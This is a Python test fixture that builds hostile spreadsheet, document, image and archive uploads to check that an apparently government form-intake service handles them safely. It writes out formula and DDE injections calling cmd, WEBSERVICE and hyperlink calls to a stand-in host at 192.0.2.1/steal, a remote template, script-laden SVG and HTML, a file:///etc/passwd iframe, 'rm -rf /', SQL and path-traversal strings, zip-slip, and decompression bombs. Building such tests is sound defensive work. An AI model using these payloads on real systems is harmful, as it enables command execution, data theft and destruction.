"""Sound files whose contents are up to something: they reach out, carry programs, or say what must stay text."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from xml.sax.saxutils import escape

from tests.hostile.case import CORRUPT, GIVEN_UP, NARRATIVE, NOT_TAKEN, READ, STAMPED, SWELLS, Hostile
from tests.hostile.sheets import SHEET, docx, page, parts_of, text, xlsx, zipped
from tests.hostile.workbooks import BOOK, MAIN, SHEET_PART, rows_of, workbook

MIB = 1024**2
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OUT_THERE = "http://192.0.2.1/steal"
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f'=HYPERLINK("{_OUT_THERE}","点这里")',
    f'=WEBSERVICE("{_OUT_THERE}")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE submissions; --",
    "../../../etc/passwd",
    "{{7*7}}${7*7}{%raw%}",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202e\u200b卡\ufeff",
    "_x0000__x001B__x000A_",
    '第一行\n第二行\r\n{"level": "error"}',
    "证件500224199001011234，手机13800138000",
)
"""What clerks could type, or be made to paste."""
_UNSAFE = {chr(code) for code in range(32)} - {"\t", "\n", "\r"}


def typed(said: str, unit: str = "土桥镇", sheet: str = "统计表", visited: object = 10) -> bytes:
    """The good form with this in both of its text columns, as Excel would store it. `visited` goes into C5."""
    lines = [list(line) for line in SHEET]
    lines[1][0] = f"填报单位（盖章）：{unit}          日期：2022年2月8日"
    lines[4][1], lines[4][9], lines[4][2] = stored(said), stored(said), visited
    return workbook(rows_of(lines), book=BOOK.replace("统计表", escape(stored(sheet), {'"': "&quot;"})))


def stored(said: str) -> str:
    """Controls as Excel writes them: XML cannot hold them."""
    return "".join(f"_x{ord(sign):04X}_" if sign in _UNSAFE else sign for sign in said)


def _formula(formula: str, cached: str = "1") -> bytes:
    lines = [list(line) for line in SHEET]
    lines[4][1] = ""
    cell = f'<c r="B5" t="str"><f>{formula}</f><v>{cached}</v></c>'
    rows = rows_of(lines).replace('<c r="C5">', f'{cell}<c r="C5">')
    return workbook(rows)


def _with(parts: dict[str, bytes]) -> Callable[[], bytes]:
    return lambda: zipped(parts_of(xlsx()) | parts)


def linked(target: str, kind: str = "externalLink") -> bytes:
    """A workbook that asks for another when it is opened."""
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}/{kind}Path" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()
    link = (
        f'<externalLink {MAIN}><externalBook xmlns:r="{_RELATIONS}" r:id="rId1"><sheetNames>'
        '<sheetName val="a"/></sheetNames></externalBook></externalLink>'
    ).encode()
    return zipped(
        parts_of(xlsx())
        | {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations,
        }
    )


def with_macros() -> bytes:
    """An xlsm: its types say so, and the part that macros live in is there."""
    parts = parts_of(xlsx())
    types = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"
    )
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return zipped(
        parts | {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 5000}
    )


def in_gbk() -> bytes:
    """A part whose name is in GBK and does not say so, as old zip programs write it."""
    whole = zipped(parts_of(xlsx()) | {"xl/media/AAAA.png": b"x"})
    return whole.replace(b"xl/media/AAAA.png", b"xl/media/\xb1\xed\xb8\xf1.png")


def behind_a_program() -> bytes:
    """A program in front of a workbook: both a program and a zip."""
    return b"MZ" + b"\x90" * 1000 + xlsx()


def _png(wide: int, high: int) -> bytes:
    """A picture of one colour that unpacks to wide × high dots."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    squeezed = zlib.compressobj(9)
    lines = b"".join(squeezed.compress(bytes(1 + wide)) for _ in range(high)) + squeezed.flush()
    head = struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def _many_strings() -> bytes:
    strings = f"<sst {MAIN}>{''.join(f'<si><t>{n:07}</t></si>' for n in range(1_500_000))}</sst>"
    return workbook(rows_of(), strings)


def _letter(part: str, markup: bytes) -> bytes:
    return zipped(parts_of(docx("一、加强领导。" * 60)) | {part: markup})


def _relation_of_a_letter() -> bytes:
    parts = parts_of(docx("一、加强领导。" * 60))
    rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{_RELATIONS}/attachedTemplate" Target="{_OUT_THERE}.dotm" '
        'TargetMode="External"/></Relationships>'.encode(),
    )
    return zipped(parts | {"word/_rels/document.xml.rels": rels})


def _archive_of(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as container:
        container.writestr(name, content)
    return out.getvalue()


_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_REACHING_PAGE = (
    page()
    .replace(b"<table>", b'<script src="http://192.0.2.1/x.js"></script><iframe src="file:///etc/passwd"></iframe><table>')
    .replace("帮助就业".encode(), b"<img src=x onerror=alert(1)>")
)  # fmt: skip
_MILLION = "".join(f'<row r="{n}">{"<c><v>1</v></c>" * 20}</row>' for n in range(12, 50_012))

TYPED = tuple(
    Hostile(f"typed: {said.encode('unicode_escape').decode('ascii') if not said.isprintable() else said}",
            "土桥镇.xlsx", lambda said=said: typed(said), READ)  # type: ignore[misc]
    for said in INJECTIONS
)  # fmt: skip
FORMULAS = tuple(
    Hostile(f"a live formula: ={formula}", "土桥镇.xlsx", lambda formula=formula: _formula(formula), READ)  # type: ignore[misc]
    for formula in (
        "cmd|'/C calc'!A0",
        "[1]a!A1",
        "WEBSERVICE(&quot;http://192.0.2.1&quot;)",
        "CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;,&quot;JJC&quot;,&quot;calc&quot;)",
    )
)
PROGRAMS = (
    Hostile("a workbook with macros", "土桥镇.xlsm", with_macros, READ),
    Hostile("a workbook with a link to another", "土桥镇.xlsx", lambda: linked(f"{_OUT_THERE}.xlsx"), READ),
    Hostile("a workbook with a link to a server's share", "土桥镇.xlsx", lambda: linked(r"file:///\\192.0.2.1\a.xlsx"), READ),
    Hostile("a workbook with a query on the web", "土桥镇.xlsx", _with({"xl/connections.xml": (
        f'<connections {MAIN}><connection id="1" type="4" refreshOnLoad="1"><webPr url="{_OUT_THERE}"/></connection>'
        "</connections>").encode()}), READ),
    Hostile("a workbook with an OLE object", "土桥镇.xlsx", _with({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 4000}), READ),
    Hostile("a workbook with a program among its parts", "土桥镇.xlsx", _with({"xl/embeddings/a.exe": b"MZ" + b"\0" * 4000}), READ),
    Hostile("a workbook behind a program", "土桥镇.xlsx", behind_a_program, (READ, CORRUPT, NOT_TAKEN)),
    Hostile("a part's name in GBK", "土桥镇.xlsx", in_gbk, (READ, CORRUPT)),
    Hostile("a document with a template from elsewhere", "土桥镇总结.docx", _relation_of_a_letter, (NARRATIVE, READ)),
    Hostile("a document with a page in it", "土桥镇总结.docx", lambda: _letter("word/afchunk.htm", b"<script>alert(1)</script>"), (NARRATIVE, READ)),
    Hostile("a page with scripts that calls itself a workbook", "土桥镇.xls", lambda: _REACHING_PAGE, READ),
    Hostile("lines that begin as formulas do", "土桥镇.csv", lambda: text().replace("帮助就业".encode(), b"=cmd|' /C calc'!A0"), READ),
    Hostile("a program", "土桥镇.exe", lambda: b"MZ" + b"\0" * 2000, NOT_TAKEN),
    Hostile("a shell script", "土桥镇.sh", lambda: b"#!/bin/sh\nrm -rf /\n", NOT_TAKEN),
    Hostile("a shortcut of Windows", "土桥镇.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 200, NOT_TAKEN),
    Hostile("a drawing with a script", "土桥镇盖章件.svg", lambda: _SVG, NOT_TAKEN),
    Hostile("a form zipped", "土桥镇.zip", lambda: _archive_of("表.xlsx", xlsx()), NOT_TAKEN),
    Hostile("a zip whose names climb out", "土桥镇.zip", lambda: _archive_of("../../x.xlsx", xlsx()), NOT_TAKEN),
)  # fmt: skip
LARGE = (
    Hostile("a million cells", "土桥镇.xlsx", lambda: workbook(rows_of() + _MILLION), (READ, GIVEN_UP)),
    Hostile("a million and a half of texts", "土桥镇.xlsx", _many_strings, (READ, GIVEN_UP)),
    Hostile("one text of sixty million letters", "土桥镇.xlsx",
            lambda: workbook(rows_of(), f"<sst {MAIN}><si><t>{'x' * 60_000_000}</t></si></sst>"), (READ, GIVEN_UP, SWELLS)),
    Hostile("a form of 21 MiB", "土桥镇.xlsx", lambda: workbook(rows_of(), picture=bytes(21 * MIB)), "too_large"),
    Hostile("a picture of four hundred million dots", "土桥镇盖章件.png", lambda: _png(20_000, 20_000), STAMPED),
    Hostile("a picture of nothing", "土桥镇盖章件.png", lambda: _png(0, 0), STAMPED),
    Hostile("a document whose picture swells", "土桥镇总结.docx", lambda: _letter("word/media/1.png", bytes(80 * MIB)), (READ, NARRATIVE)),
)  # fmt: skip
SECRET = (
    Hostile("a form with a secrecy mark", "土桥镇.xlsx",
            lambda: zipped(parts_of(workbook(rows_of())) | {SHEET_PART: parts_of(workbook(rows_of([["机密★1年"], *SHEET])))[SHEET_PART]}), READ),
)  # fmt: skip
CASES = (*TYPED, *FORMULAS, *PROGRAMS, *LARGE, *SECRET)
